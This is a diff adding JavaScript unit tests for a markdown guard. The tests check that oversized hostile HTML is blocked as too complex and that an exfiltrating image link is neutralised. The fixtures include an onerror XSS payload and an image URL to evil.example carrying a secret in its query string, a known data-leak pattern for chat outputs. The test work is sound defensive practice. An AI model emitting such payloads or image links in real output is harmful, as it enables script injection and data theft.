@@ -98,3 +98,25 @@ describe('markdown factory', () => {
     }
   });
 });
+
+describe('markdown on hostile raw HTML', () => {
+  const hostile = {
+    'images with handlers': '<img src=x onerror=alert(1)>'.repeat(4000),
+    'unclosed tags': '<div><span><b>'.repeat(7000),
+    'many distinct attributes': `<img ${Array.from({ length: 14000 }, (_, i) => `a${i}=1`).join(' ')}>`,
+  };
+
+  it.each(Object.entries(hostile))('answers 100 KB of %s quickly and blocks it as too complex', (_name, text) => {
+    const started = performance.now();
+    const result = markdown().run({ text, view: text, role: 'user' }, { signal: new AbortController().signal });
+    // A safety net against seconds of parsing, not a benchmark.
+    expect(performance.now() - started).toBeLessThan(1000);
+    expect(result).toMatchObject({ action: 'block', findings: [{ code: 'markdown_too_complex' }] });
+  });
+
+  it('still neutralises an HTML image in ordinary amounts of markup', () => {
+    const text = 'See <img src="https://evil.example/p.png?d=secret"> here.';
+    const result = markdown({ maxMarkupNodes: 50 }).run({ text, view: text, role: 'user' }, { signal: new AbortController().signal });
+    expect(result).toMatchObject({ action: 'modify', findings: [{ code: 'markdown_image_exfiltration' }] });
+  });
+});
